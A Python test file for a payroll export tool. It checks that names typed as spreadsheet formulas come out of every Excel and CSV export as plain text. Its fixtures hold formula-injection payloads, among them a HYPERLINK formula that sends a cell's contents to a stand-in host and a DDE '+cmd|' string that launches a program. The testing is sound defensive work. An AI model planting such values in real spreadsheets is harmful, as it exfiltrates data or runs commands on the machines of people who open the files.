"""No export turns text into a formula (issue 17, item 1): names typed as ``=HYPERLINK(…)``,
``+cmd|…``, ``-2+3`` or ``@SUM(…)`` into the roster (and the employer's name) come out of every
export kind, in Excel and CSV, with and without traces, as text: no formula element in any sheet
and the quote prefix on the cell; in CSV a leading ``'``. The planner's workbook and the tax
batch's CSV are held to the same rule."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal, InvalidOperation
from importlib.resources import files
from pathlib import Path

import pytest
from openpyxl import load_workbook
from payroll_support import COMPANY

from expatcn.services.exports import KINDS, export_month
from expatcn.services.payroll import import_files, open_store, run, upgrade
from expatcn.services.plan import plan_files
from expatcn.services.tax import tax_batch

EVIL = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
        "\t=1+1"]
LEAD = ("=", "+", "-", "@", "\t", "\r")
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("company")
    for name in ("employer.csv", "roster.csv", "deductions.csv", "trips.csv", "pay.csv"):
        text = (COMPANY / name).read_text(encoding="utf-8")
        if name == "roster.csv":
            lines = text.splitlines()
            for i, evil in enumerate(EVIL, start=1):
                cells = next(csv.reader([lines[i]]))
                cells[1] = evil
                out = io.StringIO()
                csv.writer(out).writerow(cells)
                lines[i] = out.getvalue().rstrip("\r\n")
            text = "\n".join(lines) + "\n"
        if name == "employer.csv":
            header, row = text.splitlines()[:2]
            cells = next(csv.reader([row]))
            out = io.StringIO()
            csv.writer(out).writerow(["=1+1 Evil Ltd", *cells[1:]])
            text = header + "\n" + out.getvalue()
        (folder / name).write_text(text, encoding="utf-8")
    engine = open_store(str(folder / "p.sqlite"))
    upgrade(engine)
    import_files(engine, [folder / n for n in ("employer.csv", "roster.csv", "deductions.csv", "trips.csv", "pay.csv")])
    run(engine, 2025, 1)
    return engine


def _files(name: str, content: bytes):
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for inner in archive.namelist():
                yield from _files(inner, archive.read(inner))
    else:
        yield name, content


def check_xlsx(name: str, content: bytes) -> list[str]:
    """Every text cell that starts like a formula: a string with the quote prefix; no <f> at all."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                assert not FORMULA_ELEMENT.search(archive.read(part)), f"{name} {part}: a formula element"
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(LEAD):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{name} {sheet.title}!{cell.coordinate}"
                    found.append(cell.value)
    return found


def check_csv(name: str, content: bytes) -> list[str]:
    """Every cell that starts like a formula is a number (a negative amount); text got a ``'``."""
    found = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for value in row:
            if value.startswith(LEAD):
                try:
                    Decimal(value)
                except InvalidOperation:
                    pytest.fail(f"{name}: unescaped text cell {value!r}")
            if value.startswith("'") and value[1:].startswith(LEAD):
                found.append(value[1:])
    return found


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("traces", [False, True])
def test_every_export_kind_keeps_formula_text_as_text(store, fmt, traces):
    seen: list[str] = []
    done = export_month(store, 2025, 1, KINDS, fmt=fmt, traces=traces)
    for export in done.files:
        for name, content in _files(export.name, export.content):
            if name.endswith(".xlsx"):
                seen += check_xlsx(name, content)
            elif name.endswith(".csv"):
                seen += check_csv(name, content)
            else:
                assert name.endswith(".pdf")
    assert {e.strip() for e in EVIL} <= set(seen)  # the names are there, as text (stripped on import)


def test_the_plan_workbook_and_the_tax_batch(tmp_path):
    example = Path(str(files("expatcn.examples") / "assignment_german_engineer_shanghai.yaml"))
    text = example.read_text(encoding="utf-8").replace("title: Anna Schmidt", "title: =HYPERLINK(1)&Anna", 1)
    source = tmp_path / "a.yaml"
    source.write_text(text, encoding="utf-8")
    xlsx = tmp_path / "plan.xlsx"
    plan_files([source], xlsx=xlsx)
    assert "=HYPERLINK(1)&Anna" in " ".join(check_xlsx("plan.xlsx", xlsx.read_bytes()))

    batch = tmp_path / "batch.csv"
    batch.write_text("employee_id,year,month,wages\n=1+1,2025,1,10000\n@x,2025,1,20000\n")
    out = tmp_path / "out.csv"
    tax_batch(batch, out)
    assert set(check_csv("out.csv", out.read_bytes())) == {"=1+1", "@x"}
